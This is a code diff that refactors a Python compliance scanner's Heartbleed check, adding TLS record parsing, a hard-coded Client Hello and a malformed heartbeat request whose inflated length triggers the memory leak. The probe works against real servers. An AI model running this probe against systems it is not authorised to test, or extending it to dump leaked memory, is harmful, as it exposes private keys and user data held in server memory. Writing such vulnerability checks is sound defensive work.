@@ -1,5 +1,96 @@
+import select
 import socket
 import struct
+import time
+
+from ._dns import IO_TIMEOUT, connect
+from ._url import host_of
+
+# TLS record content types
+RECORD_ALERT = 21
+RECORD_HANDSHAKE = 22
+RECORD_HEARTBEAT = 24
+# Handshake message type that ends the server's first flight
+SERVER_HELLO_DONE = 0x0e
+
+# Basic TLS 1.1 Client Hello (advertises the heartbeat extension) to start the handshake
+_CLIENT_HELLO = b"\x16\x03\x02\x00\xdc\x01\x00\x00\xd8\x03\x02\x53\x43\x5b\x90\x9d\x9b\x72\x0b\xbc\x0c\xbc\x2b\x92\xa8\x48\x97\xcf\xbd\x39\x04\xcc\x16\x0a\x85\x03\x90\x9f\x77\x04\x33\xd4\xde\x00\x00\x66\xc0\x14\xc0\x0a\xc0\x22\xc0\x21\x00\x39\x00\x38\x00\x88\x00\x87\xc0\x0f\xc0\x05\x00\x35\x00\x84\xc0\x12\xc0\x08\xc0\x1c\xc0\x1b\x00\x16\x00\x13\xc0\x0d\xc0\x03\x00\x0a\xc0\x13\xc0\x09\xc0\x1f\xc0\x1e\x00\x33\x00\x32\x00\x9a\x00\x99\x00\x45\x00\x44\xc0\x0e\xc0\x04\x00\x2f\x00\x96\x00\x41\xc0\x11\xc0\x07\xc0\x0c\xc0\x02\x00\x05\x00\x04\x00\x15\x00\x12\x00\x09\x00\x14\x00\x11\x00\x08\x00\x06\x00\x03\x00\xff\x01\x00\x00\x49\x00\x0b\x00\x04\x03\x00\x01\x02\x00\x0a\x00\x34\x00\x32\x00\x0e\x00\x0d\x00\x19\x00\x0b\x00\x0c\x00\x18\x00\x09\x00\x0a\x00\x16\x00\x17\x00\x08\x00\x06\x00\x07\x00\x14\x00\x15\x00\x04\x00\x05\x00\x12\x00\x13\x00\x01\x00\x02\x00\x03\x00\x0f\x00\x10\x00\x11\x00\x23\x00\x00\x00\x0f\x00\x01\x01"
+
+# This is a simplified Heartbleed "Hello" probe
+# It sends a TLS Heartbeat request with a payload length larger than the actual payload
+_HEARTBEAT = (
+    b"\x18\x03\x02\x00\x03"  # Heartbeat record header
+    b"\x01"                  # Heartbeat request
+    b"\x40\x00"              # Claimed length (16KB) - the exploit trigger
+)
+
+# Heartbeat message bytes we really send (type + claimed length, no payload)
+HEARTBEAT_SENT_LENGTH = len(_HEARTBEAT) - 5
+# Every SSL 3.0 / TLS record version starts with major version 3
+TLS_MAJOR_VERSION = 3
+
+# Once the handshake is framed we only wait this long (in total) for a heartbeat reply
+HEARTBEAT_WAIT = IO_TIMEOUT
+
+def _recv_exact(sock, length):
+    """Read exactly `length` bytes, or None if the peer closes first."""
+    buf = bytearray()
+    while len(buf) < length:
+        chunk = sock.recv(length - len(buf))
+        if not chunk:
+            return None
+        buf += chunk
+    return bytes(buf)
+
+def _read_record(sock):
+    """Read one TLS record using its 5-byte header; returns (type, version, payload) or Nones."""
+    header = _recv_exact(sock, 5)
+    if header is None:
+        return None, None, None
+    content_type, version, length = struct.unpack(">BHH", header)
+    payload = _recv_exact(sock, length)
+    if payload is None:
+        return None, None, None
+    return content_type, version, payload
+
+def _wait_for_server_hello_done(sock):
+    """Consume the server's first flight; True once ServerHelloDone is seen."""
+    handshake = b""
+    while True:
+        content_type, _version, payload = _read_record(sock)
+        if content_type != RECORD_HANDSHAKE:
+            # Alert, EOF or something unexpected: no handshake to abuse
+            return False
+        handshake += payload
+        # Walk complete handshake messages (1-byte type + 3-byte length + body)
+        while len(handshake) >= 4:
+            msg_len = int.from_bytes(handshake[1:4], "big")
+            if len(handshake) < 4 + msg_len:
+                break
+            if handshake[0] == SERVER_HELLO_DONE:
+                return True
+            handshake = handshake[4 + msg_len:]
+
+_NOT_COMPLIANT = {
+    "check_name": "Heartbleed Vulnerability",
+    "compliance": "N",
+    "remark": "NOT COMPLIANT: Server is vulnerable to Heartbleed. It allowed a memory-leaking heartbeat response. N",
+    "severity": "high" # Red
+}
+
+_COMPLIANT = {
+    "check_name": "Heartbleed Vulnerability",
+    "compliance": "Y",
+    "remark": "Compliant: Server is not vulnerable to Heartbleed. Heartbeat requests are correctly handled or disabled. Y",
+    "severity": "info" # Green
+}
+
+_CONNECTION_DROPPED = {
+    "check_name": "Heartbleed Vulnerability",
+    "compliance": "Y",
+    "remark": "Compliant: Connection dropped or refused when testing for Heartbleed. Site is protected. Y",
+    "severity": "info"
+}
 
 def run_check(target_url):
     """
@@ -8,53 +99,54 @@ def run_check(target_url):
     - Success: Server is not vulnerable or Heartbeat is disabled (Compliant - Y).
     - Failure: Server responds with memory data (Not Compliant - N).
     """
-    host = target_url.replace("https://", "").replace("http://", "").split('/')[0]
+    host = host_of(target_url)
     port = 443
 
-    # This is a simplified Heartbleed "Hello" probe
-    # It sends a TLS Heartbeat request with a payload length larger than the actual payload
-    heartbeat_payload = (
-        b"\x18\x03\x02\x00\x03"  # Heartbeat record header
-        b"\x01"                  # Heartbeat request
-        b"\x40\x00"              # Claimed length (16KB) - the exploit trigger
-    )
-
     try:
-        with socket.create_connection((host, port), timeout=5) as sock:
+        with connect(host, port) as sock:
             # Basic TLS Client Hello to start the handshake
-            sock.send(b"\x16\x03\x02\x00\xdc\x01\x00\x00\xd8\x03\x02\x53\x43\x5b\x90\x9d\x9b\x72\x0b\xbc\x0c\xbc\x2b\x92\xa8\x48\x97\xcf\xbd\x39\x04\xcc\x16\x0a\x85\x03\x90\x9f\x77\x04\x33\xd4\xde\x00\x00\x66\xc0\x14\xc0\x0a\xc0\x22\xc0\x21\x00\x39\x00\x38\x00\x88\x00\x87\xc0\x0f\xc0\x05\x00\x35\x00\x84\xc0\x12\xc0\x08\xc0\x1c\xc0\x1b\x00\x16\x00\x13\xc0\x0d\xc0\x03\x00\x0a\xc0\x13\xc0\x09\xc0\x1f\xc0\x1e\x00\x33\x00\x32\x00\x9a\x00\x99\x00\x45\x00\x44\xc0\x0e\xc0\x04\x00\x2f\x00\x96\x00\x41\xc0\x11\xc0\x07\xc0\x0c\xc0\x02\x00\x05\x00\x04\x00\x15\x00\x12\x00\x09\x00\x14\x00\x11\x00\x08\x00\x06\x00\x03\x00\xff\x01\x00\x00\x49\x00\x0b\x00\x04\x03\x00\x01\x02\x00\x0a\x00\x34\x00\x32\x00\x0e\x00\x0d\x00\x19\x00\x0b\x00\x0c\x00\x18\x00\x09\x00\x0a\x00\x16\x00\x17\x00\x08\x00\x06\x00\x07\x00\x14\x00\x15\x00\x04\x00\x05\x00\x12\x00\x13\x00\x01\x00\x02\x00\x03\x00\x0f\x00\x01\x01")
-            
-            # Receive Server Hello (just to clear buffer)
-            sock.recv(1024)
-            
-            # Send the malicious Heartbeat request
-            sock.send(heartbeat_payload)
+            sock.sendall(_CLIENT_HELLO)
             
-            # Wait for response
-            response = sock.recv(1024)
-            
-            # If the server responds with a heartbeat response (type 0x18) 
-            # and the length of the data exceeds what we sent, it is leaking memory.
-            if response and response[0] == 24: # 24 is 0x18 (Heartbeat)
-                return {
-                    "check_name": "Heartbleed Vulnerability",
-                    "compliance": "N",
-                    "remark": "NOT COMPLIANT: Server is vulnerable to Heartbleed. It allowed a memory-leaking heartbeat response. N",
-                    "severity": "high" # Red
-                }
-
-        return {
-            "check_name": "Heartbleed Vulnerability",
-            "compliance": "Y",
-            "remark": "Compliant: Server is not vulnerable to Heartbleed. Heartbeat requests are correctly handled or disabled. Y",
-            "severity": "info" # Green
-        }
+            # Read the Server Hello flight record by record instead of guessing with recv(1024)
+            if _wait_for_server_hello_done(sock):
+                # Send the malicious Heartbeat request
+                sock.sendall(_HEARTBEAT)
+
+                # A patched server ignores the request or alerts; don't sit on the full timeout.
+                # select() enforces one deadline across all records, settimeout() bounds
+                # each read if a record arrives only partially.
+                sock.settimeout(HEARTBEAT_WAIT)
+                deadline = time.monotonic() + HEARTBEAT_WAIT
+                while True:
+                    remaining = deadline - time.monotonic()
+                    if remaining <= 0:
+                        break
+                    readable, _, _ = select.select([sock], [], [], remaining)
+                    if not readable:
+                        # Nothing came back in time: no heartbeat reply
+                        break
+                    try:
+                        content_type, version, response = _read_record(sock)
+                    except socket.timeout:
+                        break
+                    if content_type is None or content_type == RECORD_ALERT:
+                        break
+
+                    # A heartbeat response (type 0x18) carrying more than the bytes we
+                    # actually sent means the server echoed our inflated claimed length
+                    # out of its own memory. A correctly sized reply is not a leak.
+                    if (
+                        content_type == RECORD_HEARTBEAT
+                        and version >> 8 == TLS_MAJOR_VERSION
+                        and len(response) > HEARTBEAT_SENT_LENGTH
+                    ):
+                        return _NOT_COMPLIANT
+                    if content_type == RECORD_HEARTBEAT:
+                        # Correctly sized reply: heartbeat handled safely, no need to keep waiting
+                        break
+
+        return _COMPLIANT
 
     except Exception:
         # Most secure servers will just drop the connection or timeout, which is good.
-        return {
-            "check_name": "Heartbleed Vulnerability",
-            "compliance": "Y",
-            "remark": "Compliant: Connection dropped or refused when testing for Heartbleed. Site is protected. Y",
-            "severity": "info"
-        }
\ No newline at end of file
+        return _CONNECTION_DROPPED
\ No newline at end of file